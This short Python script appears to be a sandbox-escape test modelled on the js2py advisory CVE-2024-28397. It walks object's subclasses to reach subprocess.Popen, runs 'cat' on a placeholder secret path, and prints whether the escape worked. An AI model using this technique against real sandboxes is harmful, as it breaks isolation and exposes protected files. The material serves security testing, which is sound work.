# Reaches Popen through the subclasses of object, as an escape from an embedded JavaScript did.
# advisory: CVE-2024-28397 (js2py)
def find(cls, depth=0):
    for sub in type.__subclasses__(cls):
        if sub.__module__ == "subprocess" and sub.__name__ == "Popen":
            return sub
        if depth < 3 and sub is not type and (found := find(sub, depth + 1)):
            return found
    return None


import subprocess

Popen = find(object) or subprocess.Popen
print("ATTEMPTED")
try:
    print("ESCAPED", Popen(["cat", "@SECRET_PATH@"], stdout=-1).communicate()[0])
except Exception as error:
    print(type(error).__name__)
